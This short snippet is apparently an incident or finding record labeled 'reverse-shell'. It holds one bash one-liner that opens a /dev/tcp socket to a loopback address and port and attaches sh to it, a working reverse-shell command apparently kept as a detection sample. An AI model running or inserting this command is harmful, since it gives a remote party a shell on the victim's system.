# incident: the shell of many packages: bash's own sockets
# finding: reverse-shell
bash -c 'exec 5<>/dev/tcp/127.0.0.1/'"$SHELL_PORT"'; sh <&5 >&5 2>&5'
